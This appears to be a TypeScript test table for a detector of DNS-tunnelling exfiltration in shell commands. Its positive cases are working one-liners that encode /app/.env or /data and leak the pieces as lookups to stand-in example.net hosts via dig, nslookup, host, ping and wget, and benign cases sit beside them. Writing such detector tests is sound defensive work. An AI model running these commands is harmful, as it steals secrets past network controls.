import { blank, indicatorTable, script, UNSEEN } from '../testing.ts';
import { commandNameTunnelPieces } from './name-tunnel-pieces.ts';

indicatorTable(commandNameTunnelPieces, {
  fires: {
    'questions over the web': script(
      'tar c /data | od -An -v -tx1 | tr -d \' \\n\' | fold -w 48 | while read x; do wget -qO- "https://dns.example.com/resolve?name=$x.q.example.net&type=A"; done',
    ),
    'lines of a folded text': script(
      'for c in $(base64 -w0 /app/.env | fold -w 60); do dig +short "$c.x.example.net"; done',
    ),
    'lines that the encoder makes short': script(
      'base64 -w 32 /app/.env | while read l; do nslookup $l.t.example.net; done',
    ),
    'groups that a pattern takes': script(
      'xxd -p /app/.env | grep -oE ".{1,40}" | while read l; do host $l.t.example.net; done',
    ),
    'bytes in a row': script('xxd -p -c 30 /app/.env | while read l; do ping -c 1 $l.t.example.net; done'),
  },
  staysSilent: {
    'one code in one name': script('H=$(hostname | base64); dig +short "$H.customers.example.net"'),
    'lines that are cut for people': script('base64 /app/logo.png | fold -w 60; dig +short www.example.net'),
    'one line': script('H=$(base64 -w0 /etc/machine-id); curl -s https://$H.customers.example.net/'),
    'names inside of the cluster': script(
      'for c in $(base64 a | fold -w 60); do nslookup $c.shop.svc.cluster.local; done',
    ),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
